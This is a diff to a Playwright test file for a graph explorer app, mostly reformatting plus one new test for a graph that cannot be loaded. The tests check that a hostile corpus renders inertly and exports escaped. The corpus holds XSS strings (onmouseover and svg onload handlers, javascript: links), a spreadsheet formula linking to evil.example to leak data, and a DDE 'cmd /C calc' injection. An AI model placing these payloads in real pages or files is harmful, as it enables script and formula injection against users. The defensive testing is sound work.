@@ -41,7 +41,8 @@ async function inertness(page: Page): Promise<Inertness> {
     const handlerAttributes: string[] = [];
     for (const element of document.querySelectorAll('*')) {
       for (const attribute of element.attributes) {
-        if (/^on/i.test(attribute.name)) handlerAttributes.push(`${element.tagName} ${attribute.name}`);
+        if (/^on/i.test(attribute.name))
+          handlerAttributes.push(`${element.tagName} ${attribute.name}`);
       }
     }
     return {
@@ -50,9 +51,9 @@ async function inertness(page: Page): Promise<Inertness> {
       nonWebLinks: [...document.querySelectorAll<HTMLAnchorElement>('a[href]')]
         .filter((link) => link.protocol !== 'http:' && link.protocol !== 'https:')
         .map((link) => link.getAttribute('href') ?? ''),
-      embedded: [...document.querySelectorAll('img, iframe, object, embed, frame, video, audio, form')].map(
-        (element) => element.outerHTML.slice(0, 80),
-      ),
+      embedded: [
+        ...document.querySelectorAll('img, iframe, object, embed, frame, video, audio, form'),
+      ].map((element) => element.outerHTML.slice(0, 80)),
       inlineScripts: document.querySelectorAll('script:not([src])').length,
     };
   });
@@ -103,21 +104,31 @@ for (const bypassCSP of [false, true]) {
     test('labels, aliases, descriptions, ids and legends render as text', async ({ page }) => {
       const requestsToX = watchRequestsToX(page);
       await openExplorer(page);
-      await expect(page.getByRole('heading', { level: 1 })).toHaveText(`${SCRIPT} Hostile corpus 🔥`);
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText(
+        `${SCRIPT} Hostile corpus 🔥`,
+      );
       const list = page.getByRole('listbox', { name: /Entities shown/ });
       await expect(list.getByText(IMG, { exact: true })).toBeVisible();
       await expect(list.getByText(JS_URL, { exact: true })).toBeVisible();
       await expect(list.getByText(CLAIM_LABEL, { exact: true })).toBeVisible();
-      await expect(page.getByText('<b onmouseover="window.__pwned=1">pwned</b>', { exact: true })).toBeVisible();
+      await expect(
+        page.getByText('<b onmouseover="window.__pwned=1">pwned</b>', { exact: true }),
+      ).toBeVisible();
 
       const img = await pick(page, '<img', IMG);
       await expect(img.getByText(`Also called: ${SVG}`, { exact: true })).toBeVisible();
-      await expect(img.getByText(`${SCRIPT} <iframe src="${JS_URL}"></iframe> & friends`)).toBeVisible();
+      await expect(
+        img.getByText(`${SCRIPT} <iframe src="${JS_URL}"></iframe> & friends`),
+      ).toBeVisible();
       // A Wikidata id that is not Q + digits and any other scheme stay text, never links.
-      await expect(img.getByText('wikidata: Q1" onmouseover="window.__pwned=1', { exact: true })).toBeVisible();
+      await expect(
+        img.getByText('wikidata: Q1" onmouseover="window.__pwned=1', { exact: true }),
+      ).toBeVisible();
       await expect(img.getByText(`homepage: ${JS_URL}`, { exact: true })).toBeVisible();
       await expect(img.getByRole('link')).toHaveCount(0);
-      await expect(img.locator('blockquote').first()).toHaveText(`“${IMG} announced a meeting with ${ARABIC}”`);
+      await expect(img.locator('blockquote').first()).toHaveText(
+        `“${IMG} announced a meeting with ${ARABIC}”`,
+      );
       await expect(img.getByRole('button', { name: ARABIC, exact: true }).first()).toBeVisible();
       await expect(img.getByRole('button', { name: CLAIM_LABEL, exact: true })).toBeVisible();
 
@@ -131,7 +142,11 @@ for (const bypassCSP of [false, true]) {
       const ministry = detailsPanel(page, ARABIC);
       await expect(ministry.getByText(`Also called: ${HEBREW}`, { exact: true })).toBeVisible();
 
-      const formula = await pick(page, 'HYPERLINK', '=HYPERLINK("http://evil.example/?leak","click me")');
+      const formula = await pick(
+        page,
+        'HYPERLINK',
+        '=HYPERLINK("http://evil.example/?leak","click me")',
+      );
       await expect(formula.getByText("@SUM(1+1)*cmd|' /C calc'!A0", { exact: true })).toBeVisible();
       await expectInert(page, requestsToX);
     });
@@ -146,7 +161,9 @@ for (const bypassCSP of [false, true]) {
 
       const claim = detailsPanel(page, CLAIM_LABEL);
       await expect(claim).toBeVisible();
-      await expect(claim.getByText(`${SVG} is our name now.`, { exact: true }).first()).toBeVisible();
+      await expect(
+        claim.getByText(`${SVG} is our name now.`, { exact: true }).first(),
+      ).toBeVisible();
       await expect(claim.getByText(`<a href="${JS_URL}">venue</a>`, { exact: true })).toBeVisible();
       await expect(claim.getByRole('link')).toHaveCount(0);
       await claim.getByRole('button', { name: RELATION_LABEL, exact: true }).click();
@@ -154,15 +171,21 @@ for (const bypassCSP of [false, true]) {
       const relation = detailsPanel(page, RELATION_LABEL);
       await expect(relation).toBeVisible();
       await expect(relation.getByText(`${IMG} note`, { exact: true })).toBeVisible();
-      await expect(relation.getByText(`("on 3 May 2021" in the text ${SCRIPT})`, { exact: true })).toBeVisible();
+      await expect(
+        relation.getByText(`("on 3 May 2021" in the text ${SCRIPT})`, { exact: true }),
+      ).toBeVisible();
       const dispatchQuote = relation.getByRole('listitem').filter({ hasText: DISPATCH_TITLE });
-      await expect(dispatchQuote.locator('blockquote')).toHaveText(`“${IMG} announced a meeting with ${ARABIC}”`);
+      await expect(dispatchQuote.locator('blockquote')).toHaveText(
+        `“${IMG} announced a meeting with ${ARABIC}”`,
+      );
       await dispatchQuote.getByRole('button', { name: 'Show in source' }).click();
 
       const reader = page.getByRole('region', { name: DISPATCH_TITLE, exact: true });
       await expect(reader).toBeVisible();
       await expect(reader.getByText(IMG, { exact: true }).first()).toBeVisible();
-      await expect(reader.getByText(`"><svg onload=window.__pwned=1>`, { exact: true })).toBeVisible();
+      await expect(
+        reader.getByText(`"><svg onload=window.__pwned=1>`, { exact: true }),
+      ).toBeVisible();
       await expect(reader.getByText(`${JS_URL} — ${DATA_URL}`, { exact: true })).toBeVisible();
       // The address is a link to exactly the http URL the corpus gives, quotes and brackets included.
       const address = reader.getByRole('link', { name: DISPATCH_URL, exact: true });
@@ -178,7 +201,10 @@ for (const bypassCSP of [false, true]) {
       await page.getByRole('button', { name: `Read “${RTL_TITLE}”`, exact: true }).click();
       const rtl = page.getByRole('region', { name: RTL_TITLE, exact: true });
       await expect(rtl).toBeVisible();
-      await expect(rtl.getByRole('link', { name: RTL_URL, exact: true })).toHaveAttribute('href', RTL_URL);
+      await expect(rtl.getByRole('link', { name: RTL_URL, exact: true })).toHaveAttribute(
+        'href',
+        RTL_URL,
+      );
       await expect(rtl.getByText('<b onmouseover=window.__pwned=1>bold</b>')).toBeVisible();
       await expect(rtl.getByRole('button', { name: ARABIC, exact: true }).first()).toBeVisible();
       await expectInert(page, requestsToX);
@@ -218,7 +244,9 @@ test('exports carry the payloads as escaped data', async ({ page }) => {
         const doc = new DOMParser().parseFromString(source, 'application/xml');
         if (doc.querySelector('parsererror')) return ['parse error'];
         return graphml
-          ? [...doc.querySelectorAll('node > data[key="node-label"]')].map((data) => data.textContent ?? '')
+          ? [...doc.querySelectorAll('node > data[key="node-label"]')].map(
+              (data) => data.textContent ?? '',
+            )
           : [...doc.querySelectorAll('node')].map((node) => node.getAttribute('label') ?? '');
       },
       { source: xml, graphml: format === 'GraphML' },
@@ -232,6 +260,26 @@ test('exports carry the payloads as escaped data', async ({ page }) => {
   expect(csv).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
   expect(csv).toContain(`"${IMG.replace(/"/g, '""')}"`);
   expect((await inertness(page)).pwned).toBe('undefined');
+});
+
+test('a graph that passes validation but cannot be loaded shows what went wrong, not a blank page', async ({
+  page,
+}) => {
+  // An edge to a node that does not exist: the schema checks shapes, graphology refuses the edge.
+  await page.route('**/corpus.json', async (route) => {
+    const response = await route.fetch();
+    const graph = (await response.json()) as {
+      edges: { key: string; source: string; target: string }[];
+    };
+    const [first] = graph.edges;
+    if (!first) throw new Error('the hostile corpus has no edges');
+    graph.edges.push({ ...first, key: 'edge-to-nowhere', target: 'no-such-node' });
+    await route.fulfill({ response, json: graph });
+  });
+  await page.goto('./');
+  const alert = page.getByRole('alert');
+  await expect(alert.getByRole('heading', { level: 1 })).toHaveText('The graph could not be shown');
+  await expect(alert.getByRole('listitem')).toContainText('no-such-node');
 });
 
 test('the compiler refuses javascript: and data: source URLs, so none can reach the page', async () => {
